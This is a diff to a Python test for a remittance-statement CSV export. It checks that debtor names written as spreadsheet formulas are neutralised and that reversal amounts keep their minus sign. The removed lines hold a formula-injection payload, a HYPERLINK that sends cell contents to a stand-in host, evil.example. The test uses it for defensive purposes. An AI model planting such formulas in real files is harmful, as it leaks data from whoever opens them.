@@ -2,25 +2,28 @@
 
 from __future__ import annotations
 
-import csv
-import io
-from datetime import date
+from datetime import UTC, date, datetime
 
-from money.remittances.documents import statement_csv
 from money.remittances.statements import run_remittances
 from tests import factories
-from tests.money.remittances.conftest import pay
+from tests.hostile_cells import HOSTILE, csv_rows, neutralised
+from tests.money.remittances.conftest import pay, reverse
 
 
-def test_a_debtor_name_written_as_a_formula_is_not_a_formula_in_the_csv(db_session, creditor):
-    debtor = factories.debtor("company", company_name='=HYPERLINK("http://evil.example/?x="&A1;"Voir")')
-    case = factories.case(client_row=creditor, debtor_row=debtor, amounts=(50_000,))
-    pay(case, 10_000, date(2026, 3, 3))
+def test_debtor_names_written_as_formulas_are_not_formulas_in_the_csv(db_session, creditor, client, login_as,
+                                                                      time_machine):
+    time_machine.move_to(datetime(2026, 4, 2, 9, 0, tzinfo=UTC), tick=False)
+    for name in HOSTILE:
+        case = factories.case(client_row=creditor, debtor_row=factories.debtor("company", company_name=name),
+                              amounts=(50_000,))
+        pay(case, 10_000, date(2026, 3, 3))
+    reverse(pay(case, 2_000, date(2026, 3, 4)), date(2026, 3, 10))
     (march,) = run_remittances(date(2026, 3, 31))
+    db_session.commit()
+    login_as("manager")
 
-    rows = list(csv.reader(io.StringIO(statement_csv(march).lstrip("\ufeff")), delimiter=";"))
-    names = {row[1] for row in rows[1:-1]}
-    assert names == {"'" + debtor.company_name}
-    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
-    # Amounts keep their minus sign: a reversal is still a number.
-    assert rows[-1][6] == "100,00"
+    rows = csv_rows(client.get(f"/remittances/{march.id}.csv").get_data(as_text=True))
+    assert {row[1] for row in rows[1:-1]} == {neutralised(name) for name in HOSTILE}
+    # A reversal keeps its minus sign: it is a number below zero, not a quoted text.
+    assert [row[6] for row in rows[1:-1] if row[2] == "annulation"] == ["-20,00"]
+    assert rows[-1][6] == "600,00"
